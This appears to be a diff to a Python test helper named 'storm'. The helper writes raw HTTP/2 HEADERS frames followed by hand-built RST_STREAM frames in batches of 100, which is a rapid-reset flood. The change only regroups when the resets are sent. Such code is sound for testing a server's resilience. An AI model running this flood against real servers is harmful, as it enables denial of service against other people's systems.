@@ -307,19 +307,20 @@ def storm(raw, count, waits):
     def reset(stream):
         return b"\0\0\x04\x03\0" + stream.to_bytes(4, "big") + b"\0\0\0\x08"
 
-    sent = 0
+    sent, ends = 0, b""
     try:
         while sent < count and listener.is_alive():
             streams = range(2 * sent + 1, 2 * sent + 201, 2)
             if waits:
-                raw.socket.sendall(b"".join(head(stream) for stream in streams) + PingFrame(0, b"12345678").serialize())
+                raw.socket.sendall(
+                    ends + b"".join(head(stream) for stream in streams) + PingFrame(0, b"12345678").serialize())
                 pongs.acquire()
-                raw.socket.sendall(b"".join(reset(stream) for stream in streams))
+                ends = b"".join(reset(stream) for stream in streams)
             else:
                 raw.socket.sendall(b"".join(head(stream) + reset(stream) for stream in streams))
             sent += 100
         # What was sent is to be heard, too, and not lost with the connection.
-        raw.socket.sendall(PingFrame(0, b"12345678").serialize())
+        raw.socket.sendall(ends + PingFrame(0, b"12345678").serialize())
         pongs.acquire()
     except OSError:
         pass
